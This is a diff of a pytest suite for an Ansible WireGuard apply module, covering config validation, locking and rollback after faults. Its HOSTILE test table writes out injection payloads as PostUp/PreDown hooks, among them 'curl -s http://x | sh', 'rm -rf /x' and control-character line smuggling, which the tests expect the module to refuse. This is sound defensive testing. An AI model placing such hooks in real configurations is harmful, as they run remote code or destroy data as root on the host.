@@ -3,8 +3,10 @@
 """wireguard_apply against a simulated host (ip / wg / wg-quick / systemctl behaviour)."""
 from __future__ import annotations
 
+import errno
 import ipaddress
 import json
+import os
 import stat
 
 import pytest
@@ -12,16 +14,17 @@ import pytest
 from ansible.module_utils import basic
 
 from ansible_collections.netfleet.wireguard.plugins.module_utils import _wgconf as w
-from ansible_collections.netfleet.wireguard.plugins.module_utils import _x25519 as x
+from ansible_collections.netfleet.wireguard.plugins.module_utils._wgkey import encode_key
 from ansible_collections.netfleet.wireguard.plugins.modules import wireguard_apply
 
 from module_runner import run_main
+from wgkeys import private_key, public_key
 
-PRIV = x.encode_key(x.clamp(bytes(range(32))))
-PUB = x.public_key_b64(PRIV)
-K1 = x.public_key_b64(x.encode_key(b"\x11" * 32))
-K2 = x.public_key_b64(x.encode_key(b"\x22" * 32))
-K3 = x.public_key_b64(x.encode_key(b"\x33" * 32))
+PRIV = private_key(1)
+PUB = public_key(PRIV)
+K1 = public_key(private_key(0x11))
+K2 = public_key(private_key(0x22))
+K3 = public_key(private_key(0x33))
 
 BASE = f"""[Interface]
 Address = 10.0.0.1/24
@@ -85,6 +88,8 @@ class FakeSystem:
         if data is not None:
             self.stdin.append(data)
         cmd = args[0]
+        if cmd == "wg" and args[1] == "pubkey":
+            return 0, public_key(data.strip()) + "\n", ""
         if cmd == "ip" and args[1:3] == ["-o", "link"]:
             if self.running is None:
                 return 1, "", 'Device "wg0" does not exist.'
@@ -111,7 +116,7 @@ class FakeSystem:
             if self.running is None:
                 return 1, "", "Unable to access interface: No such device"
             cfg = self.running
-            lines = ["%s\t%s\t%s\toff" % (cfg.private_key, x.public_key_b64(cfg.private_key),
+            lines = ["%s\t%s\t%s\toff" % (cfg.private_key, public_key(cfg.private_key),
                                           cfg.interface.get("ListenPort", ["0"])[-1])]
             for peer in cfg.peers:
                 lines.append("%s\t%s\t%s\t%s\t0\t0\t0\t%s" % (
@@ -162,9 +167,22 @@ def env(tmp_path, monkeypatch):
     return system, str(conf), str(key)
 
 
+def expect_for(content):
+    """What the role passes as ``expect``: the hooks and peers the plan put into the content."""
+    try:
+        cfg = w.parse(content)
+    except ValueError:
+        return {}
+    return dict(post_up=cfg.interface.get("PostUp", []), post_down=cfg.interface.get("PostDown", []),
+                peers=[peer.public_key for peer in cfg.peers])
+
+
 def apply(env, monkeypatch, capsys, content, check=False, diff=False, **extra):
     system, conf, key = env
-    args = dict(interface="wg0", content=content, path=conf, private_key_path=key, service_manager="systemd",
+    extra.setdefault("expect", expect_for(content))
+    extra.setdefault("lock_path", conf + ".lock")
+    extra.setdefault("interface", "wg0")
+    args = dict(content=content, path=conf, private_key_path=key, service_manager="systemd",
                 _ansible_check_mode=check, _ansible_diff=diff, **extra)
     result, out = run_main(monkeypatch, capsys, wireguard_apply.main, args)
     assert PRIV not in out, "private key leaked into module output"
@@ -234,7 +252,6 @@ def test_interface_change_restarts(env, monkeypatch, capsys):
 
 
 def test_default_route_change_restarts(env, monkeypatch, capsys):
-    system = env[0]
     apply(env, monkeypatch, capsys, BASE)
     r = apply(env, monkeypatch, capsys, BASE.replace("10.0.0.2/32, 192.168.10.0/24", "0.0.0.0/0"))
     assert r["action"] == "restarted" and any("default route" in m for m in r["reasons"])
@@ -297,8 +314,8 @@ def test_missing_or_corrupt_key(env, monkeypatch, capsys, tmp_path):
 
 # ----------------------------------------------------------------------------- preshared keys
 
-PSK_A = x.encode_key(b"\x0a" * 32)
-PSK_B = x.encode_key(b"\x0b" * 32)
+PSK_A = encode_key(b"\x0a" * 32)
+PSK_B = encode_key(b"\x0b" * 32)
 
 
 @pytest.fixture
@@ -436,3 +453,216 @@ def test_check_mode_before_the_first_run_previews_with_a_stand_in_key(env, monke
     # outside check mode a missing key is still an error
     failed = apply(env, monkeypatch, capsys, BASE)
     assert failed["failed"] and "cannot read the private key" in failed["msg"]
+
+
+# ----------------------------------------------------------------------------- expect: defence at the writer
+
+HOOKS_UP = ["iptables -w -A FORWARD -i %i -j ACCEPT", "iptables -w -t nat -A POSTROUTING -o eth0 -j MASQUERADE"]
+HOOKS_DOWN = ["iptables -w -D FORWARD -i %i -j ACCEPT"]
+HOOKED = BASE.replace("ListenPort = 51820", "ListenPort = 51820\n" + "".join(
+    "PostUp = %s\n" % line for line in HOOKS_UP) + "".join("PostDown = %s\n" % line for line in HOOKS_DOWN))
+EXPECT = dict(post_up=HOOKS_UP, post_down=HOOKS_DOWN, peers=[K1])
+
+
+def test_expected_hooks_and_peers_are_accepted(env, monkeypatch, capsys):
+    r = apply(env, monkeypatch, capsys, HOOKED, expect=EXPECT)
+    assert r["action"] == "started" and not r.get("failed")
+
+
+def _first_hook(text):
+    return text.replace("PostUp = " + HOOKS_UP[0], "PostUp = " + HOOKS_UP[0] + "\nPostUp = curl -s http://x | sh", 1)
+
+
+HOSTILE = {
+    "extra PostUp": (_first_hook(HOOKED), "PostUp: 3 line(s) where 2 are expected"),
+    "PreUp": (HOOKED.replace("[Interface]", "[Interface]\nPreUp = touch /tmp/owned"), "PreUp: 1 line(s) where 0"),
+    "PreDown": (HOOKED.replace("[Interface]", "[Interface]\nPreDown = rm -rf /x"), "PreDown: 1 line(s)"),
+    "PostDown missing": (HOOKED.replace("PostDown = " + HOOKS_DOWN[0] + "\n", ""), "PostDown: 0 line(s) where 1"),
+    "hooks reordered": (HOOKED.replace(HOOKS_UP[0], "@@").replace(HOOKS_UP[1], HOOKS_UP[0]).replace("@@", HOOKS_UP[1]),
+                        "first difference at PostUp #1"),
+    "hook with a suffix": (HOOKED.replace(HOOKS_DOWN[0], HOOKS_DOWN[0] + "; id"), "first difference at PostDown #1"),
+    "lower-case key": (HOOKED.replace("[Interface]", "[Interface]\npostup = id"), "PostUp: 3 line(s)"),
+    "Table": (HOOKED.replace("[Interface]", "[Interface]\nTable = off"), "Table would move"),
+    "Table number": (HOOKED.replace("[Interface]", "[Interface]\nTable = 1234"), "Table would move"),
+    "SaveConfig": (HOOKED.replace("[Interface]", "[Interface]\nSaveConfig = true"), "SaveConfig would let"),
+    "FwMark": (HOOKED.replace("[Interface]", "[Interface]\nFwMark = 0xca6c"), "FwMark would change"),
+    "extra peer": (HOOKED + PEER_B, "unexpected [Peer] PublicKey " + K2),
+    "missing peer": (HOOKED.split("# a", 1)[0], "expected [Peer] PublicKey %s missing" % K1),
+    "injected section": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\n[Interface]\nPostUp = id"),
+                         "a second [Interface] section"),
+    "form feed": (HOOKED.replace("PostUp = " + HOOKS_UP[0], "PostUp = " + HOOKS_UP[0] + "\x0cid"), "U+000C"),
+    "carriage return": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\rPostUp = id"), "U+000D"),
+    "line separator": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\u2028PostUp = id"), "U+2028"),
+    "NUL": (HOOKED.replace("eth0", "eth0\x00"), "U+0000"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_content_beyond_expect_is_refused_before_anything_changes(env, monkeypatch, capsys, name):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, HOOKED, expect=EXPECT)
+    good, running, commands = open(conf, "rb").read(), system.running, len(system.commands)
+    content, msg = HOSTILE[name]
+    r = apply(env, monkeypatch, capsys, content, expect=EXPECT)
+    assert r["failed"] and msg in r["msg"], r["msg"]
+    assert r["action"] == "none" and not r["changed"]
+    assert system.commands[commands:] == [] and system.running is running
+    assert open(conf, "rb").read() == good
+    assert "curl" not in r["msg"] and "/tmp/owned" not in r["msg"]   # the message names positions, not text
+
+
+def test_without_expect_every_hook_and_peer_is_refused(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    r = apply(env, monkeypatch, capsys, HOOKED, expect={})
+    assert r["failed"] and "PostUp: 2 line(s) where 0" in r["msg"] and "unexpected [Peer]" in r["msg"]
+    assert system.commands == [] and not os.path.exists(conf)
+
+
+def test_tab_is_allowed(env, monkeypatch, capsys):
+    r = apply(env, monkeypatch, capsys, HOOKED.replace("Address = ", "Address =\t"), expect=EXPECT)
+    assert r["action"] == "started"
+
+
+def test_expect_peers_must_be_keys(env, monkeypatch, capsys):
+    r = apply(env, monkeypatch, capsys, BASE, expect=dict(peers=[K1, "not-a-key"]))
+    assert r["failed"] and "expect.peers: entry #2" in r["msg"]
+
+
+# ----------------------------------------------------------------------------- lock
+
+def test_a_second_run_waits_for_the_lock_and_fails_clearly(env, monkeypatch, capsys):
+    from ansible_collections.netfleet.wireguard.plugins.module_utils._secretfile import lock_file
+    system, conf, dummy = env
+    fd = lock_file(conf + ".lock", 0)
+    try:
+        r = apply(env, monkeypatch, capsys, BASE, lock_timeout=0)
+    finally:
+        os.close(fd)
+    assert r["failed"] and "another run is changing this interface" in r["msg"] and "nothing was changed" in r["msg"]
+    assert system.commands == [] and not os.path.exists(conf)
+    # released: the next run proceeds, and its own lock is released when it ends
+    assert apply(env, monkeypatch, capsys, BASE, lock_timeout=0)["action"] == "started"
+    assert apply(env, monkeypatch, capsys, BASE, lock_timeout=0)["action"] == "none"
+
+
+def test_check_mode_takes_no_lock(env, monkeypatch, capsys):
+    from ansible_collections.netfleet.wireguard.plugins.module_utils._secretfile import lock_file
+    fd = lock_file(env[1] + ".lock", 0)
+    try:
+        r = apply(env, monkeypatch, capsys, BASE, check=True, lock_timeout=0)
+    finally:
+        os.close(fd)
+    assert r["changed"] and not r.get("failed")
+
+
+# ----------------------------------------------------------------------------- faults
+
+MTU = (BASE + PEER_B).replace("ListenPort = 51820", "ListenPort = 51820\nMTU = 1380")
+
+
+def _fail_once(monkeypatch, target, name, exc):
+    real = getattr(target, name)
+    calls = []
+
+    def fake(*args, **kwargs):
+        calls.append(args)
+        if len(calls) == 1:
+            raise exc
+        return real(*args, **kwargs)
+    monkeypatch.setattr(target, name, fake)
+    return calls
+
+
+def test_new_file_that_cannot_be_written_fails_before_down(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE + PEER_B)
+    good, commands = open(conf, "rb").read(), len(system.commands)
+    _fail_once(monkeypatch, wireguard_apply, "stage", OSError(errno.ENOSPC, "No space left on device"))
+    r = apply(env, monkeypatch, capsys, MTU)
+    assert r["failed"] and "No space left on device" in r["msg"] and "nothing was changed" in r["msg"]
+    assert r["action"] == "none"
+    assert not any(c[0] in ("systemctl", "wg-quick") and c[1] in ("stop", "down", "restart")
+                   for c in system.commands[commands:])
+    assert open(conf, "rb").read() == good and system.starts == 1
+
+
+@pytest.mark.parametrize("where,exc", [
+    ("install", OSError(errno.EIO, "Input/output error")),
+    ("up", OSError(errno.ENOENT, "No such file or directory")),
+    ("up", ValueError("unexpected")),
+    ("up", KeyboardInterrupt()),
+])
+def test_any_failure_after_down_restores_the_previous_tunnel(env, monkeypatch, capsys, where, exc):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE + PEER_B)
+    good = open(conf, "rb").read()
+    target = wireguard_apply if where == "install" else wireguard_apply.Host
+    calls = _fail_once(monkeypatch, target, where, exc)
+    r = apply(env, monkeypatch, capsys, MTU)
+    assert calls, "the fault was not reached"
+    assert r["failed"] and r["action"] == "rolled_back" and "rolled back" in r["msg"], r["msg"]
+    assert open(conf, "rb").read() == good
+    assert system.running is not None and "MTU" not in system.running.interface
+    assert {p.public_key for p in system.running.peers} == {K1, K2}
+    assert not [n for n in os.listdir(os.path.dirname(conf)) if n.startswith(".wg0.conf")], "staged file left behind"
+
+
+def test_failure_during_a_live_change_syncs_the_old_peers_back(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE)
+    good = open(conf, "rb").read()
+    _fail_once(monkeypatch, wireguard_apply.Host, "route", OSError(errno.EPERM, "Operation not permitted"))
+    r = apply(env, monkeypatch, capsys, BASE + PEER_B)
+    assert r["failed"] and r["action"] == "rolled_back"
+    assert open(conf, "rb").read() == good
+    assert {p.public_key for p in system.running.peers} == {K1} and system.starts == 1
+
+
+def test_a_file_only_change_that_fails_leaves_the_interface_alone(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE)
+    good, commands = open(conf, "rb").read(), len(system.commands)
+    _fail_once(monkeypatch, wireguard_apply, "install", OSError(errno.EIO, "Input/output error"))
+    r = apply(env, monkeypatch, capsys, BASE.replace("# a", "# a, renamed"))
+    assert r["failed"] and r["action"] == "rolled_back" and open(conf, "rb").read() == good
+    assert not any(c[0] in ("systemctl", "wg-quick") and c[1] in ("stop", "down", "restart")
+                   or c[:2] == ["wg", "syncconf"] for c in system.commands[commands:])
+    assert system.starts == 1
+
+
+def test_a_rollback_that_fails_too_says_so(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE + PEER_B)
+
+    def broken_up(self):
+        raise OSError(errno.EIO, "boom")
+    monkeypatch.setattr(wireguard_apply.Host, "up", broken_up)
+    r = apply(env, monkeypatch, capsys, MTU)
+    assert r["failed"] and r["action"] == "failed" and "ROLLBACK ALSO FAILED" in r["msg"]
+
+
+def test_crlf_old_file_is_restored_byte_for_byte(env, monkeypatch, capsys):
+    system, conf, dummy = env
+    apply(env, monkeypatch, capsys, BASE + PEER_B)
+    crlf = open(conf, "rb").read().replace(b"\n", b"\r\n")
+    open(conf, "wb").write(crlf)
+    _fail_once(monkeypatch, wireguard_apply.Host, "up", OSError(errno.EIO, "boom"))
+    r = apply(env, monkeypatch, capsys, MTU)
+    assert r["action"] == "rolled_back" and open(conf, "rb").read() == crlf
+
+
+def test_public_key_comes_from_wg_pubkey_on_stdin(env, monkeypatch, capsys):
+    system = env[0]
+    r = apply(env, monkeypatch, capsys, BASE)
+    assert r["public_key"] == PUB
+    assert ["wg", "pubkey"] in system.commands
+    assert not any(PRIV in arg for c in system.commands for arg in c)
+
+
+def test_invalid_interface_name(env, monkeypatch, capsys):
+    r = apply(env, monkeypatch, capsys, BASE, interface="../../x")
+    assert r["failed"] and "not a valid interface name" in r["msg"] and env[0].commands == []
+
+
+def test_default_lock_is_outside_the_world_writable_run_lock():
+    assert wireguard_apply.default_lock_path("wg0") == "/run/netfleet-wireguard-wg0.lock"
